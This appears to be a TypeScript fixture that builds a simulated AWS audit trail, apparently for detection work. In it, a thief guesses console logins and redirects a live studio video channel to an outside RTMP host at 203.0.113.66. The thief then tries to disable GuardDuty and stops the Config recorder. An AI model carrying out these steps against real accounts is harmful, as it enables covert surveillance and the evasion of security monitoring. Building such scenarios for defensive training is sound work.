import { type Actor, iamUser } from '../actors/actor.ts';
import { thief } from '../actors/thief.ts';
import { accounts } from '../estate.ts';
import type { Happening } from '../record.ts';
import { signIn } from '../sign-in.ts';
import { step } from '../step.ts';
import { loot } from './loot.ts';

const { media, security } = accounts;

const unknownName = 'No username found in supplied account';
const wrongPassword = 'Failed authentication';

/** Somebody who is not signed in yet: only a name was typed. */
const atTheDoor = (userName: string): Actor => ({
  ...thief.console,
  identity: { type: 'IAMUser', principalId: '', accountId: media, accessKeyId: '', userName },
  console: false,
});

const signedIn: Actor = { ...thief.console, identity: iamUser(media, 'media-ci', ''), console: false };

/** The console, from another address, without MFA. */
export const atTheConsole: readonly Happening[] = [
  signIn('10:18:02', atTheDoor('HIDDEN_DUE_TO_SECURITY_REASONS'), { mfa: false, failure: unknownName }),
  signIn('10:18:40', atTheDoor('HIDDEN_DUE_TO_SECURITY_REASONS'), { mfa: false, failure: unknownName }),
  signIn('10:21:15', atTheDoor('media-ci'), { mfa: false, failure: wrongPassword }),
  signIn('10:22:51', atTheDoor('studio-desk'), { mfa: false, failure: wrongPassword }),
  signIn('10:24:19', signedIn, { mfa: false }),
  step('10:25:33', thief.console, 'us-west-2', 'medialive:ListChannels', {
    request: { maxResults: '20' },
  }),
  step('10:26:10', thief.console, 'us-west-2', 'medialive:DescribeChannel', {
    request: { channelId: '2750932' },
  }),
  step('10:29:58', thief.console, 'us-west-2', 'medialive:UpdateChannel', {
    request: {
      channelId: '2750932',
      destinations: [
        {
          id: 'dest-1',
          settings: [
            { url: 's3ssl://live-recordings/studio/cam-1', passwordParam: '' },
            {
              url: 'rtmp://203.0.113.66:1935/mirror',
              streamName: 'studio',
              username: 'feed',
              passwordParam: 'HIDDEN_DUE_TO_SECURITY_REASONS',
            },
          ],
        },
      ],
    },
    response: {
      channel: {
        arn: `arn:aws:medialive:us-west-2:${media}:channel:2750932`,
        id: '2750932',
        name: 'studio-live',
        state: 'UPDATING',
        channelClass: 'STANDARD',
      },
    },
  }),
  step('10:34:07', thief.console, 'us-west-2', 'kinesisvideo:ListSignalingChannels', { request: {} }),
  step('10:35:42', thief.console, 'us-west-2', 'kinesisvideo:CreateSignalingChannel', {
    request: {
      channelName: 'lobby-cam-2',
      channelType: 'SINGLE_MASTER',
      singleMasterConfiguration: { messageTtlSeconds: 120 },
    },
    response: { channelARN: loot.lobbyChannel },
  }),
  step('10:41:26', thief.console, 'us-east-1', 'guardduty:UpdateDetector', {
    request: { detectorId: '12abc34d567e8fa901bc2d34e56789f0', enable: false },
    error: [
      'AccessDenied',
      `User: arn:aws:iam::${media}:user/media-ci is not authorized to perform: guardduty:UpdateDetector on resource: arn:aws:guardduty:us-east-1:${media}:detector/12abc34d567e8fa901bc2d34e56789f0 with an explicit deny in a service control policy: arn:aws:organizations::${security}:policy/o-exampleorg1/service_control_policy/p-keepout1`,
    ],
  }),
  step('10:51:13', thief.console, 'us-east-1', 'config:StopConfigurationRecorder', {
    request: { configurationRecorderName: 'default' },
  }),
];
